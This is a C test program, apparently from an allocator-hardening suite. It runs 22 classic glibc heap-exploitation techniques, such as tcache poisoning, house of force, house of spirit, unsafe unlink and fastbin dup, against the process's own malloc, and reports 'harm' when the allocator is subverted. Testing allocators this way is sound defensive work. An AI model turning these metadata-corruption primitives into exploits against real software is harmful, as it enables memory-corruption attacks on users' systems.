/*
 * attacks TECHNIQUE: carries out a classic attack on an allocator's metadata, and checks whether it reached its goal:
 * the allocator writes memory of the attacker's choice, or gives it out as a block.
 *
 * Prints the words of tests/process/hardening/suite/scene.h: before, after, harm, end. Sizes and layouts are those of
 * glibc: a chunk's header is 16 bytes before its block, and a free block begins with two links.
 */
#define _GNU_SOURCE
#include <malloc.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { SMALL = 0x80, LARGE = 0x420, TAKEN = 300, MARK = 0x41 };

/* The memory that the attacker wants to write or to get. Its words look like a chunk's header of the size. */
static struct {
    uint64_t before[8];
    uint64_t words[64];
    uint64_t behind[8];
} target __attribute__((aligned(64)));

static char *taken[TAKEN];

static void say(const char *word)
{
    char line[32];
    int length = snprintf(line, sizeof line, "%s\n", word);

    if (write(1, line, (size_t)length) != length)
        _exit(5);
}

static char *hide(void *pointer)
{
    void *volatile hidden = pointer;
    return hidden;
}

static void put(void *at, ptrdiff_t offset, uint64_t word) { memcpy(hide(at) + offset, &word, sizeof word); }

static void set_target(uint64_t word)
{
    for (size_t i = 0; i < sizeof target / sizeof(uint64_t); i++)
        ((uint64_t *)&target)[i] = word;
}

static int in_target(const void *block, size_t size)
{
    return (uintptr_t)block < (uintptr_t)(&target + 1) && (uintptr_t)block + size > (uintptr_t)&target;
}

static void check_target(uint64_t word)
{
    for (size_t i = 0; i < sizeof target / sizeof(uint64_t); i++)
        if (((uint64_t *)&target)[i] != word) {
            say("harm");
            return;
        }
}

/* Takes blocks. None may be the target, overlap another, or overlap `live`. */
static void take_blocks(size_t size, const char *live, size_t live_size)
{
    int harmed = 0;

    for (int i = 0; i < TAKEN; i++) {
        taken[i] = hide(malloc(size));
        harmed |= in_target(taken[i], size) || (live && taken[i] < live + live_size && live < taken[i] + size);
        for (int k = 0; k < i; k++)
            harmed |= taken[i] < taken[k] + size && taken[k] < taken[i] + size;
    }
    if (harmed)
        say("harm");
}

static void give_blocks(void)
{
    for (int i = 0; i < TAKEN; i++) {
        free(taken[i]);
        taken[i] = NULL;
    }
}

/* ---- Links in free blocks ---- */

static void tcache_poisoning(void)
{
    char *a = malloc(SMALL), *b = malloc(SMALL);

    free(a);
    free(b);
    say("before");
    put(b, 0, (uint64_t)(uintptr_t)&target.words);
    put(b, 8, 0); /* the key by which glibc recognizes a cached block */
    say("after");
    take_blocks(SMALL, NULL, 0);
}

static void free_list_overwrite(void)
{
    static const size_t sizes[] = { 16, 48, 112, 1024, 5000, 20000 };
    char *blocks[64];

    say("before");
    for (size_t s = 0; s < sizeof sizes / sizeof sizes[0]; s++) {
        for (int i = 0; i < 64; i++)
            blocks[i] = malloc(sizes[s]);
        for (int i = 0; i < 64; i++)
            free(blocks[i]);
        for (int i = 0; i < 64; i++)
            for (size_t at = 0; at + 8 <= sizes[s]; at += 8)
                put(blocks[i], (ptrdiff_t)at, (uint64_t)(uintptr_t)&target.words);
        take_blocks(sizes[s], NULL, 0);
        give_blocks();
    }
    say("after");
}

static void house_of_lore(void)
{
    char *victim = malloc(LARGE), *guard = malloc(SMALL);

    set_target((uint64_t)(uintptr_t)(victim - 16));
    free(victim);
    free(malloc(2 * LARGE)); /* sorts it into its bin */
    say("before");
    put(victim, 8, (uint64_t)(uintptr_t)&target.words);
    say("after");
    take_blocks(LARGE, guard, SMALL);
    check_target((uint64_t)(uintptr_t)(victim - 16));
}

static void unsorted_bin(void)
{
    char *victim = malloc(LARGE), *guard = malloc(SMALL);

    free(victim);
    say("before");
    put(victim, 8, (uint64_t)(uintptr_t)&target.words - 16);
    say("after");
    take_blocks(LARGE, guard, SMALL);
    check_target(0);
}

static void large_bin(void)
{
    char *a = malloc(0x428), *guard = malloc(SMALL), *b = malloc(0x418);

    free(a);
    free(malloc(0x438));
    free(b);
    say("before");
    put(a, 24, (uint64_t)(uintptr_t)&target.words - 32);
    free(malloc(0x438));
    say("after");
    take_blocks(0x418, guard, SMALL);
    check_target(0);
}

static void read_of_links(void)
{
    char *a = malloc(SMALL), *b = malloc(SMALL);

    memset(a, MARK, SMALL);
    memset(b, MARK, SMALL);
    free(a);
    free(b);
    malloc_trim(0);
    say("before");
    /* An address here reveals where memory lies, and so undoes links that are masked by xor with an address. */
    for (size_t at = 0; at < SMALL; at += 8) {
        uint64_t word;
        memcpy(&word, hide(b) + at, sizeof word);
        if (word != 0 && word != UINT64_C(0x4141414141414141)) {
            say("harm");
            break;
        }
    }
    say("after");
}

/* ---- Headers beside blocks ---- */

/* A block and the block behind it, as far as the allocator's layout allows. */
static void two_blocks(size_t size, char **first, char **next)
{
    char *blocks[32];

    *first = *next = NULL;
    for (int i = 0; i < 32; i++)
        blocks[i] = malloc(size);
    for (int i = 0; i < 32 && !*first; i++)
        for (int k = 0; k < 32; k++)
            if (blocks[k] > blocks[i] && (size_t)(blocks[k] - blocks[i]) < size + 64) {
                *first = blocks[i];
                *next = blocks[k];
            }
    if (!*first) {
        *first = blocks[0];
        *next = blocks[1];
    }
}

static char *named; /* the program's own pointer to a block, which unlink makes point to itself */

static void unlink_unsafely(void)
{
    char *next, *own;

    two_blocks(LARGE, &named, &next);
    own = named;
    put(named, 16, (uint64_t)(uintptr_t)&named - 24);
    put(named, 24, (uint64_t)(uintptr_t)&named - 16);
    say("before");
    put(next, -16, LARGE - 16); /* the size of a free chunk before it, which begins in the first block */
    put(next, -8, LARGE + 16);
    free(next);
    say("after");
    if (named != own)
        say("harm");
    take_blocks(LARGE, own, LARGE);
}

static void house_of_einherjar(void)
{
    char *first, *next;

    two_blocks(0x108, &first, &next);
    say("before");
    put(next, -16, (uint64_t)((uintptr_t)next - 16 - (uintptr_t)&target.words));
    next[-8] = 0; /* one byte too many: marks the block before as free */
    free(next);
    say("after");
    take_blocks(0x108, first, 0x100);
    check_target(0);
}

static void poison_null_byte(void)
{
    char *first, *next;

    two_blocks(LARGE, &first, &next);
    say("before");
    free(first);
    put(next, -16, LARGE + SMALL);
    next[-8] = 0;
    free(next);
    say("after");
    take_blocks(LARGE, NULL, 0);
}

static void overlapping_chunks(void)
{
    char *first, *next;

    two_blocks(LARGE, &first, &next);
    say("before");
    put(first, -8, 2 * (LARGE + 16) | 1); /* the first block claims the length of both */
    free(first);
    say("after");
    take_blocks(2 * LARGE, next, LARGE);
}

static void house_of_force(void)
{
    char *last = malloc(SMALL);
    uintptr_t distance = (uintptr_t)&target - (uintptr_t)last - SMALL - 64;

    say("before");
    put(last, (ptrdiff_t)malloc_usable_size(last) + 8, UINT64_MAX); /* what remains behind it is endless */
    taken[0] = hide(malloc((size_t)distance));
    taken[1] = hide(malloc(SMALL));
    say("after");
    if (taken[0] || in_target(taken[1], SMALL))
        say("harm");
}

static void house_of_orange(void)
{
    char *last = malloc(SMALL);

    say("before");
    put(last, (ptrdiff_t)malloc_usable_size(last) + 8, 0xc01);
    taken[0] = hide(malloc(0x1000));
    say("after");
    take_blocks(SMALL, last, SMALL);
    check_target(0);
}

static void mapped_chunks(void)
{
    enum { BIG = 4 << 20 };
    char *first = malloc(BIG), *next = malloc(BIG), *lower = first < next ? first : next,
         *upper = first < next ? next : first;

    memset(lower, MARK, BIG);
    memset(upper, MARK, BIG);
    say("before");
    if (upper - lower == BIG) /* the words before a block are the end of its neighbour */
        put(upper, -8, 2 * BIG | 2);
    free(upper);
    say("after");
    for (size_t at = 0; at < BIG - 8; at += 4096)
        if (lower[at] != MARK)
            say("harm");
    take_blocks(SMALL, lower, BIG);
}

/* ---- Blocks that are none ---- */

static void house_of_spirit(void)
{
    set_target(SMALL + 16 + 1);
    say("before");
    free(hide(&target.words[2]));
    say("after");
    take_blocks(SMALL, NULL, 0);
}

static void fake_chunk(void)
{
    char *block = malloc(LARGE);

    for (size_t at = 0; at < LARGE; at += 16) {
        put(block, (ptrdiff_t)at, 0);
        put(block, (ptrdiff_t)at + 8, SMALL + 16 + 1);
    }
    say("before");
    free(hide(block + 0x100));
    say("after");
    take_blocks(LARGE, block, LARGE);
}

/* ---- A block twice ---- */

static void fastbin_dup(void)
{
    char *a = malloc(SMALL), *b = malloc(SMALL), *again;

    say("before");
    free(a);
    free(b);
    free(hide(a));
    say("after");
    again = malloc(SMALL);
    put(again, 0, (uint64_t)(uintptr_t)&target.words); /* glibc: the link of the copy that is still free */
    take_blocks(SMALL, again, SMALL);
}

static void house_of_botcake(void)
{
    char *blocks[64], *victim;

    for (int i = 0; i < 64; i++)
        blocks[i] = malloc(0x100);
    victim = blocks[32];
    for (int i = 0; i < 32; i++)
        free(blocks[i]);
    free(victim);
    free(blocks[31 + 2]);
    malloc_trim(0); /* now it is in its slab and */
    taken[0] = malloc(0x100);
    say("before");
    free(hide(victim));
    say("after");
    take_blocks(0x100, NULL, 0);
}

static void double_free_across(void)
{
    char *a = malloc(SMALL), *mine;

    free(a);
    mine = malloc(SMALL); /* the same block, now with another owner */
    memset(mine, MARK, SMALL);
    say("before");
    free(hide(a));
    say("after");
    take_blocks(SMALL, mine, SMALL);
}

static void unsafe_realloc(void)
{
    char *block = malloc(SMALL), *grown = realloc(block, 0x1000);

    say("before");
    for (size_t at = 0; at + 8 <= SMALL; at += 8)
        put(block, (ptrdiff_t)at, (uint64_t)(uintptr_t)&target.words); /* the old pointer */
    free(hide(block));
    say("after");
    take_blocks(SMALL, grown, 0x1000);
}

static void realloc_of_freed(void)
{
    char *block = malloc(SMALL), *other = malloc(SMALL);

    free(block);
    free(other);
    say("before");
    taken[0] = realloc(hide(block), 0x100);
    say("after");
    take_blocks(SMALL, NULL, 0);
}

/* ---- The allocator's own memory: up to a thread's cache, and up to the next slab's header ---- */

static void long_underrun(void)
{
    char *block = malloc(SMALL), *at = hide(block);

    say("before");
    for (size_t i = 0; i < (96 << 10); i += 8)
        put(at -= 8, 0, (uint64_t)(uintptr_t)&target.words[2]);
    say("after");
    take_blocks(SMALL, NULL, 0);
}

static void long_overrun(void)
{
    char *block = malloc(SMALL), *at = hide(block);

    say("before");
    for (size_t i = 0; i < (1 << 20); i += 8)
        put(at, (ptrdiff_t)i, (uint64_t)(uintptr_t)&target.words[2]);
    say("after");
    take_blocks(SMALL, NULL, 0);
    take_blocks(300000, NULL, 0);
}

static const struct {
    const char *name;
    void (*run)(void);
} TECHNIQUES[] = {
    { "tcache-poisoning", tcache_poisoning },
    { "free-list-overwrite", free_list_overwrite },
    { "house-of-lore", house_of_lore },
    { "unsorted-bin", unsorted_bin },
    { "large-bin", large_bin },
    { "read-of-links", read_of_links },
    { "unsafe-unlink", unlink_unsafely },
    { "house-of-einherjar", house_of_einherjar },
    { "poison-null-byte", poison_null_byte },
    { "overlapping-chunks", overlapping_chunks },
    { "house-of-force", house_of_force },
    { "house-of-orange", house_of_orange },
    { "mapped-chunks", mapped_chunks },
    { "house-of-spirit", house_of_spirit },
    { "fake-chunk", fake_chunk },
    { "fastbin-dup", fastbin_dup },
    { "house-of-botcake", house_of_botcake },
    { "double-free-to-overlap", double_free_across },
    { "unsafe-realloc", unsafe_realloc },
    { "realloc-of-freed", realloc_of_freed },
    { "long-underrun", long_underrun },
    { "long-overrun", long_overrun },
};

int main(int argc, char **argv)
{
    size_t count = sizeof TECHNIQUES / sizeof TECHNIQUES[0];

    alarm(50); /* ends a hang */
    if (argc == 1)
        for (size_t i = 0; i < count; i++)
            say(TECHNIQUES[i].name);
    for (size_t i = 0; argc == 2 && i < count; i++)
        if (!strcmp(argv[1], TECHNIQUES[i].name)) {
            TECHNIQUES[i].run();
            give_blocks();
            malloc_trim(0);
            say("end");
            return 0;
        }
    return argc == 1 ? 0 : 2;
}
